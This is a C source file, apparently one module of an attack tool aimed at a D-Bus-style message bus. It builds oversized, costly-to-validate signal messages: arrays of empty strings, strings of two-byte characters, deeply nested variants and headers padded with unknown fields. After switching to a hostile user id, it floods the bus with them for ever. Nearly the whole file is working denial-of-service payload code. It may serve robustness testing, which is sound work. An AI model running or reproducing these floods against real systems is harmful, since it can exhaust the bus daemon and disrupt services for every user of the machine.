/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>

/* Messages that are expensive to validate and have no recipient. --count: MiB of each. */

#define DEPTH 60
#define FIELD 100u /* a header field that the specification does not know */

static size_t wanted(void)
{
    return (size_t)attack_options.count << 20;
}

static void send_for_ever(const char *signature, const struct buffer *body)
{
    struct connection c = {0};
    struct buffer out = {0};
    put_message(&out,
                &(struct header){.type = SIGNAL,
                                 .flags = NO_REPLY,
                                 .path = ATTACK_PATH,
                                 .interface = ATTACK_INTERFACE,
                                 .member = "Signal",
                                 .signature = signature},
                body);
    hostile_set_uid();
    attack_join(&c);
    process_ready();
    attack_flood(&c, &out, 1);
}

static void put_zeros(struct buffer *body, size_t n)
{
    buffer_need(body, n);
    memset(body->data + body->size, 0, n);
    body->size += n;
}

/* An array of empty strings. */
void empty_strings(void *argument)
{
    struct buffer body = {0};
    (void)argument;
    put_zeros(&body, 4 + wanted() - 3); /* the last has no padding */
    write_u32(body.data, (uint32_t)body.size - 4);
    send_for_ever("as", &body);
}

/* One string of two-byte characters. */
void non_ascii(void *argument)
{
    struct buffer body = {0};
    (void)argument;
    buffer_u32(&body, (uint32_t)wanted());
    while (body.size < 4 + wanted())
        buffer_put(&body, "\xc3\xa4", 2);
    put_zeros(&body, 1);
    send_for_ever("s", &body);
}

/* Variants in variants, DEPTH deep each. */
void deep_variants(void *argument)
{
    struct buffer body = {0};
    (void)argument;
    buffer_u32(&body, 0);
    while (body.size < wanted()) {
        for (int i = 0; i < DEPTH; i++)
            buffer_put(&body, "\1v", 3);
        buffer_put(&body, "\1y\0z", 4);
    }
    write_u32(body.data, (uint32_t)body.size - 4);
    send_for_ever("av", &body);
}

/* A header of unknown fields. */
void header_fields(void *argument)
{
    struct connection c = {0};
    struct buffer out = {0};
    (void)argument;
    put_message(&out,
                &(struct header){.type = SIGNAL,
                                 .flags = NO_REPLY,
                                 .path = ATTACK_PATH,
                                 .interface = ATTACK_INTERFACE,
                                 .member = "Signal"},
                NULL);
    while (out.size < wanted())
        buffer_put(&out, "\x64\1y\0z\0\0", 8);
    write_u32(out.data + 12, (uint32_t)out.size - 16 - 3);
    hostile_set_uid();
    attack_join(&c);
    process_ready();
    attack_flood(&c, &out, 1);
}
